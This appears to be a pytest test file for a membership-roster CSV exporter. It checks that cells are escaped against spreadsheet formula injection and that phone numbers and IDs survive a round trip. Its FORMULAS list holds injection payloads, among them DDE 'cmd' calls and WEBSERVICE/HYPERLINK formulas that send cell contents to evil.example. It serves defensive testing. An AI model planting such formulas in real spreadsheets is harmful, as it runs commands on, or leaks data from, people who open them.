"""Threat 12: no cell of a table we give out is computed by whoever opens it, and none loses what it said."""

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from renraku.members import roster_csv
from renraku.members.roster_csv import Row
from renraku.web import csv_file

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"ここを押す")',
    '=WEBSERVICE("http://evil.example/"&A2)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u22121+1",
    "\ufe631+1",
    "\u207a1",
    "'=1+1",
    "''=1+1",
    '";=1+1;"',
    '",=1+1,"',
]
REWRITTEN = [
    "09012345678",
    "+819012345678",
    "0012",
    "1234567890123456",
    "1-2",
    "3/4",
    "1-2-3",
    "12E3",
    "MAR-1",
]
AS_THEY_ARE = [
    "",
    "花田はな",
    "090-1234-5678",
    "1001",
    "M0001",
    "100-0001",
    "みどり町1-1",
    "'",
    "it's",
    "a=b",
]
TRIGGERS = "=+-@\t\r\n＝＋－＠\u2212"


def cells_of(table: bytes) -> list[list[str]]:
    """As a spreadsheet reads the file."""
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_formula_is_a_formula_in_the_table(cell: str) -> None:
    assert len(FORMULAS) == 30
    [_, [written, after]] = cells_of(csv_file.table(["氏名", "次"], [[cell, "次"]]))
    assert written.lstrip(" \u3000\u200b\ufeff")[:1] not in TRIGGERS or not written
    assert after == "次", "nothing in a cell ends it"
    assert csv_file.unguarded(written) == cell


@pytest.mark.parametrize("cell", FORMULAS)
def test_other_separators_do_not_cut_a_formula_free(cell: str) -> None:
    for separator in ";\t|":
        text = csv_file.table(["氏名"], [[f"花田{separator}{cell}"]]).decode("utf-8-sig")
        [_, row] = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        assert len(row) == 1


@pytest.mark.parametrize("cell", REWRITTEN)
def test_what_excel_would_rewrite_stays_as_it_is(cell: str) -> None:
    assert csv_file.guarded(cell) == f"'{cell}"
    assert csv_file.unguarded(csv_file.guarded(cell)) == cell


@pytest.mark.parametrize("cell", AS_THEY_ARE)
def test_everything_else_is_not_touched(cell: str) -> None:
    assert csv_file.guarded(cell) == csv_file.unguarded(cell) == cell


@given(st.text(alphabet=st.sampled_from("=+-@'＝ \t0123456789/-Eeあ\u200b"), max_size=8))
def test_whatever_was_guarded_comes_back(cell: str) -> None:
    guarded = csv_file.guarded(cell)
    assert csv_file.unguarded(guarded) == cell
    assert guarded[:1] not in "=+-@＝\t" or not guarded


def test_a_table_is_what_excel_opens() -> None:
    table = csv_file.table(["番号", "氏名"], [["1", '花田"はな"'], ["2", "二行\nの名"]])
    assert table.startswith(b"\xef\xbb\xbf")
    assert table.decode("utf-8-sig") == '"番号","氏名"\r\n"1","花田""はな"""\r\n"2","二行\nの名"\r\n'


@pytest.mark.parametrize("phone", ["+81-90-1234-5678", "+819012345678", "09012345678", "090-1234-5678"])
def test_a_telephone_number_survives_the_way_through_a_table(phone: str) -> None:
    table = csv_file.table(["会員番号", "氏名", "電話"], [["0012", "=花田", phone]])
    [row] = roster_csv.rows(table, date(2026, 4, 10))
    assert isinstance(row, Row)
    assert (row.member_number, row.name, row.phone) == ("0012", "=花田", phone)
